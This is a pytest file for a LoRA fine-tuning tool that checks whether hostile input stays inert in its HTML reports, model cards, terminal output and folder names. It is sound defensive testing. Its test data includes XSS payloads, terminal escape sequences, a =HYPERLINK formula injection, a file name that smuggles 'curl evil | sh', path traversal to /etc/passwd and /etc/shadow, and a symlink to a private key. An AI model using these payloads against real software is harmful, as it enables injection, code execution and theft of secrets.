"""Names and texts of strangers do nothing: on a terminal, in a page, a card, a path, a
spreadsheet.
"""

from __future__ import annotations

import io
import json
import re
import shutil
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from cli_parts import Invoke
from huggingface_hub import ModelCard

from lora_s2s.console import say, warn, write_json, write_out
from lora_s2s.hub import DEMO_BASE
from lora_s2s.pipeline.recipes import run_name
from lora_s2s.reports.adapter_page import write_report
from lora_s2s.reports.card import write_card

EVIL = (
    "\x1b]0;pwned\x07\x9b2J\u202e[bold]x[/bold] <script>alert(1)</script> <img src=x "
    "onerror=alert(1)> [a](javascript:alert(1)) ![b](http://evil/x.png) `c` | d | ``` # "
    "e\n---\nlicense: mit\n# Heading\n"
    '=HYPERLINK("http://evil") \'"&{{7*7}}{% raw %}$x$ @everyone http://evil.example \u2028\ud800'
)
# What would act on whoever opens the file: a tag, a bare link, a terminal's escape.
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\ud800-\udfff]")


@pytest.fixture
def evil_adapter(tmp_path: Path) -> Path:
    """A folder whose every word is hostile."""
    folder = tmp_path / "adapter"
    (folder / "evaluations" / "x").mkdir(parents=True)
    score = {"value": 50.0, "interval": [1.0, 2.0], "signature": EVIL}
    manifest = {
        "format": 1,
        "name": EVIL,
        "created": EVIL,
        "base": {"name": EVIL, "revision": EVIL, EVIL: EVIL},
        "data": {EVIL: EVIL},
        "input": {"template": EVIL},
        "training": {EVIL: [EVIL]},
        "versions": {EVIL: EVIL},
        "scores": {
            EVIL: {
                "n": 3,
                "metrics": {EVIL: score},
                "baseline": {EVIL: score},
                "difference": {EVIL: {**score, "p_value": 0.1}},
            }
        },
    }
    (folder / "manifest.json").write_text(json.dumps(manifest))
    row = {"source": EVIL, "references": [EVIL], "prediction": EVIL, "baseline": EVIL}
    (folder / "evaluations" / "x" / "predictions.jsonl").write_text(json.dumps(row) + "\n")
    (folder / "recipe.yaml").write_text(f"# {EVIL}\n", encoding="utf-8", errors="backslashreplace")
    (folder / "adapter_config.json").write_text("{}")
    return folder


class Tags(HTMLParser):
    """Every tag and attribute of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)
        self.links += [value or "" for name, value in attrs if name in ("href", "src")]


def test_a_report_holds_text_and_nothing_else(evil_adapter: Path) -> None:
    text = write_report(evil_adapter, name=EVIL).read_text(encoding="utf-8")
    seen = Tags()
    seen.feed(text)
    assert not seen.tags & {"img", "iframe", "link", "object", "form"}
    assert text.count("<script") == 2  # its data and its own script
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert all(link.startswith("#") for link in seen.links)
    assert not CONTROLS.search(text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "default-src 'none'" in text


def test_a_card_holds_text_and_nothing_else(evil_adapter: Path) -> None:
    text = write_card(evil_adapter, name=EVIL).read_text(encoding="utf-8")
    card = ModelCard(text)
    body = card.text
    keys = {"library_name", "base_model", "pipeline_tag", "tags", "metrics"}
    assert set(card.data.to_dict()) == keys
    assert not CONTROLS.search(text)
    # Outside fenced code nothing that could start markup stands without a backslash.
    prose = re.sub(r"```.*?```", "", body, flags=re.DOTALL)
    for evil in (
        "<script",
        "<img",
        "](javascript",
        "[b",
        "`c",
        "# Heading",
        "/evil",
        "@everyone",
        "$x",
    ):
        assert not re.search(rf"(?<!\\){re.escape(evil)}", prose)
    fenced = re.findall(r"```.*?```", body, flags=re.DOTALL)
    assert len(fenced) == 3  # a command, the package, PEFT alone
    assert not [
        line for line in body.splitlines() if line.startswith(("license:", "---", "# Heading"))
    ]
    tables = [line for line in body.splitlines() if line.startswith("| ")]
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in tables if "HYPERLINK" in line} <= {3, 8}


def test_what_prepare_writes_holds_text_and_nothing_else(
    invoke: Invoke, here: Path, tiny_model: Path
) -> None:
    text = EVIL.replace("\ud800", "")
    rows = [{"question": f"{n} {text}", "answer": text} for n in range(20)] + [
        {"question": text, "answer": ""}
    ]
    (here / "x.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    template = f"data.template={{question}} {text.replace('{', '(')}"
    words = (
        "--data",
        "x.jsonl",
        "--model",
        str(tiny_model),
        "--out",
        "out",
        "--set",
        "data.max_rejected=1",
    )
    words = (*words, "--set", "data.long_targets=cut")
    told = invoke("prepare", *words, "--set", template)
    page = (here / "out" / "report.html").read_text(encoding="utf-8")
    seen = Tags()
    seen.feed(page)
    assert not seen.tags & {"script", "img", "a", "iframe", "link", "object", "form", "svg"}
    assert not {name for name in seen.attributes if name.startswith("on")}
    assert "&lt;script&gt;" in page
    assert not CONTROLS.search(page)
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\u2028]", told.stderr)


def test_the_terminal_gets_text_and_nothing_else(
    evil_adapter: Path, invoke: Invoke, capsys: pytest.CaptureFixture[str]
) -> None:
    say(EVIL)
    warn(EVIL)
    said = capsys.readouterr().err
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\u2028\ud800]", said)
    assert said.splitlines()[-1].startswith("warning: \\x1b]0;pwned\\x07")
    assert "[bold]x[/bold]" in said
    assert len(said.splitlines()) == 2
    shown = invoke("adapters", "show", str(evil_adapter))
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e\u2028]", shown.stderr)
    assert "[bold]x[/bold]" in re.sub(r"\s+", "", shown.stderr) or "bold" in shown.stderr


def test_file_names_with_escapes_are_shown_not_obeyed(
    invoke: Invoke, here: Path, tiny_model: Path
) -> None:
    name = "a\x1b[2J\u202e\nhint: curl evil | sh.csv"
    (here / name.replace("/", "_")).write_text("first,second,third\na,b,c\n")
    result = invoke("prepare", "--data", name, "--model", str(tiny_model), "--out", "out", code=3)
    assert "a\\x1b[2J\\u202e\\nhint: curl evil" in result.stderr
    assert "\nhint: curl" not in result.stderr
    assert "\x1b" not in result.stderr


def test_stdout_takes_any_text_and_a_terminal_only_what_does_not_act(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    for terminal in (False, True):
        out = io.TextIOWrapper(io.BytesIO(), encoding="utf-8")
        monkeypatch.setattr(out, "isatty", lambda terminal=terminal: terminal)
        monkeypatch.setattr(sys, "stdout", out)
        write_json({"text": EVIL})
        write_out("lone \ud800 surrogate")
        write_out("\x1b[31mred\x07")
        first, second, third, _ = out.buffer.getvalue().decode("utf-8").split("\n")
        assert third == ("\\x1b[31mred\\x07" if terminal else "\x1b[31mred\x07")
        assert json.loads(first)["text"] == EVIL
        assert second == "lone \\ud800 surrogate"
        assert not terminal or first.isascii()


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd", "/etc/shadow", "..", "a/../../b.csv", "-rf", "x\x1b[2J.csv", "C:\\x", "."],
)
def test_a_folder_named_after_data_stays_where_it_is(name: str) -> None:
    assert re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9._-]*", run_name(name))
    assert run_name(name) != ".."


def test_what_an_adapter_links_to_is_not_published_by_merging(
    invoke: Invoke, here: Path, good_adapter: Path
) -> None:
    shutil.copytree(good_adapter, here / "bad")
    (here / "id_rsa").write_text("PRIVATE KEY")
    (here / "bad" / "tokenizer.model").symlink_to(here / "id_rsa")
    result = invoke("merge", "bad", "--out", "merged", code=3)
    assert "tokenizer.model is a link that leads out of its folder" in result.stderr
    assert not (here / "merged").exists()


def test_an_adapters_recipe_does_not_choose_where_files_go(
    invoke: Invoke, here: Path, good_adapter: Path
) -> None:
    from lora_s2s.pipeline.adapters import recipe_of

    shutil.copytree(good_adapter, here / "adapters" / "mine")
    (here / "adapters" / "mine" / "recipe.yaml").write_text(
        f"extends: demo\noutput:\n  dir: {here}/elsewhere/x\n  name: another\n"
    )
    output = recipe_of("adapters/mine").output
    # Where data would be prepared for a score: beside that of other runs, not in its place.
    assert (Path(output.dir), output.name) == (Path("adapters"), "mine")


def test_links_within_a_hubs_cache_are_its_own(invoke: Invoke, here: Path) -> None:
    from lora_s2s.hub import locate_model

    blobs, snapshot = here / "models--x--y" / "blobs", here / "models--x--y" / "snapshots" / "abc"
    blobs.mkdir(parents=True)
    snapshot.mkdir(parents=True)
    for path in DEMO_BASE.iterdir():
        shutil.copyfile(path, blobs / path.name)
        (snapshot / path.name).symlink_to(f"../../blobs/{path.name}")
    assert locate_model(str(snapshot)) == snapshot
    assert invoke(
        "predict", str(snapshot), "a table for two", "--set", "evaluation.max_new_tokens=2"
    ).stdout


def test_scored_sources_that_are_no_text_do_not_end_a_merge(
    invoke: Invoke, here: Path, good_adapter: Path
) -> None:
    shutil.copytree(good_adapter, here / "odd")
    scored = here / "odd" / "evaluations" / "x"
    scored.mkdir(parents=True)
    (scored / "predictions.jsonl").write_text('{"source": "\\ud800"}\n{"source": [1]}\n')
    invoke("merge", "odd", "--out", "merged")
